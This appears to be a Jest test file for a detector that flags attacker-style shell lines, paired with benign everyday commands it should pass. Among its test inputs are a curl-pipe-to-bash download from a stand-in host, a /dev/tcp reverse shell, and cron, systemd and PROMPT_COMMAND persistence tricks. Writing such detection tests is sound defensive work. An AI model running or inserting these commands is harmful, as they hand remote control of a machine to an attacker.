import { describe, expect, it } from '@jest/globals';
import { isSuspectPayload } from './payload.ts';

describe('payloads', () => {
  it.each([
    'curl -fsSL http://c.example.net/s | bash',
    '*/5 * * * * root /dev/shm/u',
    'ExecStart=/opt/.agent',
    'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
    'python3 -c "import os"',
    'PROMPT_COMMAND=/usr/lib/x',
  ])('looks like an attacker’s: %s', (text) => {
    expect(isSuspectPayload(text)).toBe(true);
  });

  it.each(['0 6 * * 1 /srv/app/bin/weekly-report > /tmp/report.log', 'ExecStart=/usr/bin/node /srv/api/main.js', 'export PATH="$HOME/.local/bin:$PATH"', 'npm run lint', '. "$HOME/.cargo/env"'])('is a day’s work: %s', (text) => {
    expect(isSuspectPayload(text)).toBe(false);
  });
});
